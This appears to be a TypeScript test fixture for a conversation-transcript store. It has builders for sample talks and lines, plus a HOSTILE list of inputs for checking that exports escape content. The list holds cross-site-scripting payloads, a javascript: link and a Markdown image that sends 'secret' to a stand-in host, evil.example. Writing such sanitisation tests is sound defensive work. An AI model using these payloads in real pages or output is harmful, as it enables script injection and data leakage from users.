/** Talks to write, store and find. */
import type { PastLine, PastTalk } from "../../../lib/browser/keeping/past_talk.ts";
import { en } from "../../../lib/words/en/en.ts";
import type { Words } from "../../../lib/words/words.ts";

export const WORDS: Words = en;

/** 2026-11-21 09:30 UTC. */
export const BEGUN_AT_MS = Date.UTC(2026, 10, 21, 9, 30);

/** The bytes of no picture at all, but bytes. */
export const JPEG = Uint8Array.of(0xff, 0xd8, 1, 2, 3, 0xff, 0xd9);

export function someLine(more: Partial<PastLine> = {}): PastLine {
  return {
    ...{ who: "person", text: "Hello there", state: "whole", isTyped: false },
    ...{ fromMs: 1_000, untilMs: 3_000, saw: [], sources: [], queries: [] },
    ...more,
  };
}

export function someTalk(more: Partial<PastTalk> = {}): PastTalk {
  return {
    ...{ version: 1, id: "a", revision: 1, begunAtMs: BEGUN_AT_MS },
    ...{ changedAtMs: BEGUN_AT_MS + 125_000, model: "gemini-3.8-live", microDollars: 34_000 },
    lines: [someLine(), someLine({ who: "model", text: "Good morning.", fromMs: 4_000 })],
    ...{ notes: [], pictures: [], linesDropped: 0, picturesDropped: 0, bytes: 500 },
    ...more,
  };
}

/** What people and models may say or write to lead a file astray. */
export const HOSTILE = [
  `<script>alert(1)</script><img src=x onerror=alert(1)>`,
  `</p></li></ol><style>*{display:none}</style>`,
  `"><a href="javascript:alert(1)">x</a>`,
  "00:00.000 --> 00:01.000\n\nNOTE x --> y",
  "# heading\n- list\n1. one\n> quote\n```\ncode\n~~~\n===\n---\n| a | b |\n|---|---|",
  "[link](javascript:alert(1)) ![x](https://evil.example/?q=secret) [a]: http://evil.example",
  "*bold* _em_ ~~gone~~ `code` &lt;b&gt; &#x3c; $x^2$ \\* ***",
  "    four spaces\n\tand a tab\n\n\n+ plus\n42) answer",
  "\u202Eright to left\u202C ‏שלום עולם‏ مرحبا",
  "\0\u0007 controls \u2028 line \u2029 paragraph \r\n end",
  "WEBVTT\n\nSTYLE\n::cue{color:red}",
  "😀".repeat(200),
];
